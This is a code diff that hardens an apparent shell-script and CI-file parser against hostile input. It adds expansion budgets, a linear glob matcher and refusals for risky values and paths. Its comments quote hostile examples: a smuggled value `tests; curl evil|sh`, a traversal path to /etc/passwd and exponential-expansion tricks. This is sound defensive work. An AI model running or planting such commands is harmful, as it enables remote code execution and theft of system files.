@@ -9,6 +9,9 @@ from __future__ import annotations
 
 import re
 import shlex
+from collections.abc import Iterator
+from contextlib import contextmanager
+from contextvars import ContextVar
 from dataclasses import dataclass, field
 from posixpath import normpath
 
@@ -33,6 +36,47 @@ _NOISE = {"echo", "printf", "set", "source", ".", "true", ":", "exit", "return",
 _WRAPPERS = {"time", "nice", "nohup", "xvfb-run", "stdbuf", "caffeinate", "unbuffer", "dbus-run-session"}
 _PIPE_SINKS = {"tee", "cat", "less", "more", "head", "tail"}
 MAX_LINES = 2_000
+# Caps on what expansion may produce, so a hostile script (`V="$V $V"` thirty times, `A+=("${A[@]}")`,
+# `${V//a/$V$V}`, a 100 KB value referenced on every line) costs bounded time and memory. Over a cap the
+# value is unknown, as any unknown value: the command using it is not stated.
+MAX_VALUE_CHARS = 2_000  # one expanded word or variable value
+MAX_ARRAY_WORDS = 200  # one array's items
+MAX_PATTERN_CHARS = 100  # the pattern of `${V#p}`, `${V%p}`, `${V/p/r}`
+MAX_MATCH_CELLS = 50_000  # value length x pattern length for one pattern operation (about 20 ms)
+_CELL_COST = 4  # budget units per matching cell: a cell costs more than a character copied
+# Everything one script (or one CI file, its steps together) may produce by expansion: characters of
+# values and words, plus the cells pattern matching visits. Past it, further expansions are unknown.
+EXPANSION_BUDGET = 1_000_000
+# A value from a variable, an array or the environment that would put shell syntax into a printed word
+# (`T='tests; curl evil|sh'` then `pytest "$T"`): the command is not stated.
+_UNSAFE_VALUE = re.compile(r"[;|&$`<>()\\\n\r]")
+_budget: ContextVar[list[int] | None] = ContextVar("agentsmd_shell_expansion_budget", default=None)
+
+
+@contextmanager
+def expansion_budget(units: int = EXPANSION_BUDGET) -> Iterator[None]:
+    """One budget for the expansions made inside (a script, or a CI file's steps); a nested call
+    shares the outer one."""
+    if _budget.get() is not None:
+        yield
+        return
+    token = _budget.set([units])
+    try:
+        yield
+    finally:
+        _budget.reset(token)
+
+
+def _spend(units: int) -> bool:
+    """Take `units` from the current budget; False (and the budget left empty) when it cannot pay."""
+    budget = _budget.get()
+    if budget is None:
+        return True
+    if budget[0] < units:
+        budget[0] = 0
+        return False
+    budget[0] -= units
+    return True
 
 
 @dataclass
@@ -121,12 +165,15 @@ def _assign_array(match: re.Match[str], env: dict[str, str]) -> None:
             spliced = _splice(word, env)
             if spliced is not None:
                 items += spliced
-                continue
-            value = expand(word, env)
-            if value is None:
-                items = None
+            else:
+                value = expand(word, env)
+                if value is None:
+                    items = None
+                    break
+                items.append(value)
+            if len(items) > MAX_ARRAY_WORDS:
+                items = None  # `A+=("${A[@]}")` over and over: too big to know
                 break
-            items.append(value)
     if items is not None and append:
         if name + ARRAY_SUFFIX in env:
             items = env[name + ARRAY_SUFFIX].split(ARRAY_SEP) + items if env[name + ARRAY_SUFFIX] else items
@@ -134,6 +181,8 @@ def _assign_array(match: re.Match[str], env: dict[str, str]) -> None:
             items = ([env[name]] if env[name] else []) + items
         else:
             items = None
+    if items is not None and (len(items) > MAX_ARRAY_WORDS or sum(len(item) + 1 for item in items) > MAX_VALUE_CHARS):
+        items = None
     if items is None or any(ARRAY_SEP in item or "$" in item for item in items):
         env.pop(name, None)
         env.pop(name + ARRAY_SUFFIX, None)
@@ -149,12 +198,18 @@ def _splice(word: str, env: dict[str, str]) -> list[str] | None:
     if not match:
         return None
     name = match.group(1)
-    if name + ARRAY_SUFFIX in env:
+    array = name + ARRAY_SUFFIX in env
+    if array:
         value = env[name + ARRAY_SUFFIX]
-        return value.split(ARRAY_SEP) if value else []
-    if name in env and "$" not in env[name]:
-        return [env[name]]
-    return None
+    elif name in env and "$" not in env[name]:
+        value = env[name]
+    else:
+        return None
+    if len(value) > MAX_VALUE_CHARS or not _spend(len(value) + 1):
+        return None
+    if not array:
+        return [value]
+    return value.split(ARRAY_SEP) if value else []
 
 
 def _tokens(line: str) -> list[str] | None:
@@ -172,88 +227,127 @@ def _has_substitution(line: str) -> bool:
     return "`" in line or "$(" in line or "<(" in line or ">(" in line
 
 
-def _glob_regex(pattern: str) -> re.Pattern[str] | None:
-    """A shell pattern (`*`, `?`, `[...]`, quoted or escaped literals) as a regular expression."""
-    out: list[str] = []
+_STAR = "*"
+_ANY = "?"
+
+
+def _glob_tokens(pattern: str) -> list[str | re.Pattern[str]] | None:
+    """A shell pattern as tokens: `*`, `?`, a literal character, or a compiled one-character class for
+    `[...]`; None for a pattern too long or with a class not worth guessing (`[[:alpha:]]`)."""
+    if len(pattern) > MAX_PATTERN_CHARS:
+        return None
+    out: list[str | re.Pattern[str]] = []
     i = 0
     while i < len(pattern):
         char = pattern[i]
         if char == "*":
-            out.append(".*")
+            if out[-1:] != [_STAR]:  # `**` is `*`
+                out.append(_STAR)
         elif char == "?":
-            out.append(".")
+            out.append(_ANY)
         elif char == "[":
             end = pattern.find("]", i + 2 if pattern[i + 1:i + 2] in ("!", "^") else i + 1)
             if end < 0:
-                out.append(re.escape(char))
+                out.append("\\" + char)
             else:
                 body = pattern[i + 1:end]
                 negate = body[:1] in ("!", "^")
                 body = body[1:] if negate else body
                 if "[:" in body:
                     return None  # character classes: not worth guessing
-                out.append("[" + ("^" if negate else "") + body.replace("\\", "\\\\") + "]")
+                try:
+                    out.append(re.compile("[" + ("^" if negate else "") + body.replace("\\", "\\\\") + "]", re.S))
+                except re.error:
+                    return None
                 i = end
         elif char == "\\" and i + 1 < len(pattern):
-            out.append(re.escape(pattern[i + 1]))
+            out.append("\\" + pattern[i + 1])
             i += 1
         else:
-            out.append(re.escape(char))
+            out.append("\\" + char)
         i += 1
-    try:
-        return re.compile("".join(out), re.S)
-    except re.error:
+    return out
+
+
+def _match_ends(pattern: str, value: str) -> tuple[list[int], list[int]] | None:
+    """For each start i of `value`, the shortest and the longest end e such that value[i:e] matches the
+    shell pattern (-1 when none). One backward pass over value x pattern (no backtracking, so
+    `*a*a*a*b` costs what `ab` does); None when the pattern is not read or the work is over its caps."""
+    tokens = _glob_tokens(pattern)
+    n, m = len(value), len(tokens or [])
+    cells = (n + 1) * (m + 1)
+    if tokens is None or n > MAX_VALUE_CHARS or cells > MAX_MATCH_CELLS or not _spend(_CELL_COST * cells):
         return None
+    shortest, longest = [-1] * (n + 1), [-1] * (n + 1)
+    next_lo: list[int] = []
+    next_hi: list[int] = []
+    for i in range(n, -1, -1):
+        lo, hi = [-1] * (m + 1), [-1] * (m + 1)
+        lo[m] = hi[m] = i  # the empty rest of the pattern matches the empty string
+        char = value[i] if i < n else ""
+        for k in range(m - 1, -1, -1):
+            token = tokens[k]
+            if token == _STAR:
+                # `*` matches nothing (go on with the pattern) or this character (stay on the star)
+                a_lo, a_hi = lo[k + 1], hi[k + 1]
+                b_lo, b_hi = (next_lo[k], next_hi[k]) if i < n else (-1, -1)
+                hi[k] = max(a_hi, b_hi)
+                lo[k] = a_lo if b_lo < 0 else b_lo if a_lo < 0 else min(a_lo, b_lo)
+            elif i < n and (token == _ANY or (token[1:] == char if isinstance(token, str) else token.match(char))):
+                lo[k], hi[k] = next_lo[k + 1], next_hi[k + 1]
+        shortest[i], longest[i] = lo[0], hi[0]
+        next_lo, next_hi = lo, hi
+    return shortest, longest
 
 
 def _trim(value: str, op: str, pattern: str) -> str | None:
     """`${V#p}`, `${V##p}`, `${V%p}`, `${V%%p}`: the value without its shortest/longest matching prefix/suffix."""
-    regex = _glob_regex(pattern)
-    if regex is None:
+    ends = _match_ends(pattern, value)
+    if ends is None:
         return None
+    shortest, longest = ends
     n = len(value)
     if op in ("#", "##"):
-        cuts = range(0, n + 1) if op == "#" else range(n, -1, -1)
-        for cut in cuts:
-            if regex.fullmatch(value[:cut]):
-                return value[cut:]
+        cut = shortest[0] if op == "#" else longest[0]
+        return value if cut < 0 else value[cut:]
+    # a suffix value[i:] matches when the longest match from i reaches the end
+    starts = [i for i in range(n + 1) if longest[i] == n]
+    if not starts:
         return value
-    cuts = range(n, -1, -1) if op == "%" else range(0, n + 1)
-    for cut in cuts:
-        if regex.fullmatch(value[cut:]):
-            return value[:cut]
-    return value
+    return value[:starts[-1] if op == "%" else starts[0]]
 
 
 def _replace(value: str, op: str, pattern: str, replacement: str) -> str | None:
     """`${V/p/r}` (first), `${V//p/r}` (all), `${V/#p/r}` (at the start), `${V/%p/r}` (at the end); longest match."""
-    regex = _glob_regex(pattern)
-    if regex is None or not pattern:
-        return None if regex is None else value
+    if not pattern:
+        return value if _glob_tokens(pattern) is not None else None
+    ends = _match_ends(pattern, value)
+    if ends is None:
+        return None
+    longest = ends[1]
     n = len(value)
     if op == "/#":
-        for cut in range(n, -1, -1):
-            if regex.fullmatch(value[:cut]):
-                return replacement + value[cut:]
-        return value
+        return value if longest[0] < 0 else replacement + value[longest[0]:]
     if op == "/%":
-        for cut in range(0, n + 1):
-            if regex.fullmatch(value[cut:]):
-                return value[:cut] + replacement
-        return value
+        start = next((i for i in range(n + 1) if longest[i] == n), None)
+        return value if start is None else value[:start] + replacement
     out: list[str] = []
+    size = 0
     i = 0
-    replaced = False
-    while i <= n:
-        end = next((e for e in range(n, i, -1) if regex.fullmatch(value[i:e])), None) if not (replaced and op == "/") else None
-        if end is not None:
+    while i < n:
+        if longest[i] > i:
             out.append(replacement)
-            replaced = True
-            i = end
-            continue
-        if i < n:
+            size += len(replacement)
+            i = longest[i]
+            if op == "/":
+                out.append(value[i:])
+                break
+        else:
             out.append(value[i])
-        i += 1
+            size += 1
+            i += 1
+        if size > MAX_VALUE_CHARS:
+            return None  # `${V//a/$V$V}`: grows past what is kept
     return "".join(out)
 
 
@@ -287,8 +381,8 @@ def _parameter(inner: str, env: dict[str, str], depth: int) -> str | None:
         value = ""  # a script run with fewer arguments
     else:
         value = env.get(name)
-    if value is not None and "$" in value:
-        value = None  # a value that is itself unknown
+    if value is not None and ("$" in value or len(value) > MAX_VALUE_CHARS):
+        value = None  # a value that is itself unknown, or too long to be kept
     if length:
         return None if value is None or rest else str(len(value))
     if not rest:
@@ -366,21 +460,25 @@ def _closing_brace(text: str, start: int) -> int:
 
 def expand(word: str, env: dict[str, str], _depth: int = 0) -> str | None:
     """`$NAME`, `${NAME}` and the common `${NAME...}` expansions from a known environment; None when any
-    reference is unknown (the word is then not stated as if it were literal)."""
+    reference is unknown (the word is then not stated as if it were literal), when the result would be
+    longer than MAX_VALUE_CHARS, or when the expansion budget is spent."""
     if "$" not in word:
         return word
-    if _depth > 4:
+    if _depth > 4 or len(word) > 4 * MAX_VALUE_CHARS:
         return None
     out: list[str] = []
+    size = 0
     i = 0
     while i < len(word):
         char = word[i]
         if char == "\\" and i + 1 < len(word):
             out.append(word[i:i + 2])
+            size += 2
             i += 2
             continue
         if char != "$":
             out.append(char)
+            size += 1
             i += 1
             continue
         if word.startswith("${", i):
@@ -388,20 +486,20 @@ def expand(word: str, env: dict[str, str], _depth: int = 0) -> str | None:
             if end < 0:
                 return None
             value = _parameter(word[i + 2:end], env, _depth)
-            if value is None:
-                return None
-            out.append(value)
             i = end + 1
-            continue
-        simple = re.match(r"\$([A-Za-z_][A-Za-z0-9_]*|[0-9])", word[i:])
-        if not simple:
-            return None  # `$(`, `$'...'`, `$$`, a lone `$`
-        value = _parameter(simple.group(1), env, _depth)
+        else:
+            simple = re.match(r"\$([A-Za-z_][A-Za-z0-9_]*|[0-9])", word[i:])
+            if not simple:
+                return None  # `$(`, `$'...'`, `$$`, a lone `$`
+            value = _parameter(simple.group(1), env, _depth)
+            i += simple.end()
         if value is None:
             return None
+        size += len(value)
+        if size > MAX_VALUE_CHARS or not _spend(len(value) + 1):
+            return None  # `V="$V $V"` thirty times: too long to know
         out.append(value)
-        i += simple.end()
-    return "".join(out)
+    return "".join(out) if size <= MAX_VALUE_CHARS else None
 
 
 def _strip_redirections(words: list[str]) -> list[str] | None:
@@ -423,7 +521,13 @@ def _strip_redirections(words: list[str]) -> list[str] | None:
 
 
 def parse_script(text: str, env: dict[str, str] | None = None, *, start_cwd: str = "", _nesting: int = 0) -> tuple[list[Simple], dict[str, str]]:
-    """The simple commands of a POSIX shell script and the environment it exports (`export X=y`)."""
+    """The simple commands of a POSIX shell script and the environment it exports (`export X=y`).
+    Its expansions share one budget (the caller's, when it opened one for a whole CI file)."""
+    with expansion_budget():
+        return _parse_script(text, env, start_cwd=start_cwd, _nesting=_nesting)
+
+
+def _parse_script(text: str, env: dict[str, str] | None, *, start_cwd: str, _nesting: int) -> tuple[list[Simple], dict[str, str]]:
     env = dict(env or {})
     exported: dict[str, str] = {}
     cwd: str | None = start_cwd
@@ -861,7 +965,8 @@ def _split_unquoted(line: str, env: dict[str, str]) -> str:
             match = re.match(r"\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))", line[i:])
             if match:
                 value = env.get(match.group(1) or match.group(2) or "")
-                if value is not None and " " in value.strip() and _SPLITTABLE.match(value):
+                if (value is not None and " " in value.strip() and len(value) <= MAX_VALUE_CHARS and _SPLITTABLE.match(value)
+                        and _spend(len(value) + 1)):
                     out.append(" ".join(value.split()))
                     i += match.end()
                     continue
@@ -913,18 +1018,24 @@ def _simple(words: list[str], env: dict[str, str], cwd: str, number: int, substi
         return None
     expanded: list[str] = []
     scope = {**env, **local}
+    grown = False
     for word in argv:
         if word in _ALL_ARGS:
-            expanded += scope.get(ARGS, "").split()  # a script's own arguments (none when it was not given any)
-            continue
-        spliced = _splice(word, scope)
-        if spliced is not None:
-            expanded += spliced  # `"${ARGS[@]}"`: the array's words
-            continue
-        value = expand(word, scope)
-        if value is None:
-            return Simple([], local, cwd, number)  # an unknown variable: not a command we can state
-        expanded.append(value)
+            items = scope.get(ARGS, "").split()  # a script's own arguments (none when it was not given any)
+            grown = True
+        else:
+            spliced = _splice(word, scope)  # `"${ARGS[@]}"`: the array's words
+            grown = grown or spliced is not None
+            value = expand(word, scope) if spliced is None else None
+            if spliced is None and value is None:
+                return Simple([], local, cwd, number)  # an unknown variable: not a command we can state
+            items = spliced if spliced is not None else [value] if value is not None else []
+        if "$" in word and any(len(item) > MAX_WORD_CHARS or _UNSAFE_VALUE.search(item) for item in items):
+            # too long to print, or a value carrying shell syntax (`T='tests; curl evil|sh'`): not stated
+            return Simple([], local, cwd, number)
+        expanded += items
+        if grown and len(expanded) > MAX_WORDS:
+            return Simple([], local, cwd, number)  # `"${A[@]}"` of a long array: more words than are printed
     # `VAR=$X` in the prefix is kept only when known
     for key, value in list(local.items()):
         known = expand(value, env)
@@ -948,17 +1059,42 @@ MAX_WORD_CHARS = 140  # a glob with a brace list (`--exclude-pattern=spec/{a,b,c
 MAX_WORDS = 24
 
 
-def render(argv: list[str], *, quote_globs: bool = False) -> str | None:
+# Options whose value names workspace packages (`pnpm --filter NAME`, `lerna --scope NAME`): a package
+# name is a manifest value, so shell syntax in it is refused even inside quotes.
+_SELECTORS = {"--filter", "-F", "--scope", "--ignore", "--projects", "--project", "-p", "--workspace", "-w"}
+_SELECTOR_UNSAFE = re.compile(r"[;|&<>()\s]")
+
+
+def _escapes_root(word: str, cwd: str) -> bool:
+    """A path word (or an option's `=path`) that goes above the repository root from `cwd`
+    (`tests/../../../etc/passwd`)."""
+    if ".." not in word:
+        return False
+    for part in (word, word.partition("=")[2]):
+        if part and (part == ".." or part.startswith("../") or "/../" in part or part.endswith("/..")):
+            joined = normpath(f"{cwd}/{part}" if cwd else part)
+            if joined == ".." or joined.startswith("../"):
+                return True
+    return False
+
+
+def render(argv: list[str], *, quote_globs: bool = False, cwd: str = "") -> str | None:
     """One command line from words, each checked: plain words as they are, others single-quoted when
-    they are printable ASCII without a backtick, `$` or backslash. None when anything else is in it.
-    A brace or glob pattern (`spec/{a,b}/*_spec.rb`) is quoted, so the tool that takes it (rspec,
-    a test runner) reads the pattern itself."""
+    they are printable ASCII without a backtick, `$` or backslash. None when anything else is in it,
+    when a path goes above the repository root (run from `cwd`), or when a package selector's value
+    carries shell syntax. A brace or glob pattern (`spec/{a,b}/*_spec.rb`) is quoted, so the tool that
+    takes it (rspec, a test runner) reads the pattern itself."""
     if not argv or len(argv) > MAX_WORDS:
         return None
     out: list[str] = []
-    for word in argv:
+    for index, word in enumerate(argv):
         if not word or len(word) > MAX_WORD_CHARS or word.startswith(("/", "~")) or re.search(r"=[/~]", word):
             return None  # an absolute path is the CI machine's, not the reader's
+        if _escapes_root(word, cwd):
+            return None
+        selector = index > 0 and argv[index - 1] in _SELECTORS or word.split("=", 1)[0] in _SELECTORS and "=" in word
+        if selector and _SELECTOR_UNSAFE.search(word):
+            return None
         if _SAFE_WORD.match(word) and not (quote_globs and any(c in word for c in "*?[")):
             out.append(word)
         elif _QUOTABLE.match(word) and not any(c in word for c in "`$\\'\"!"):
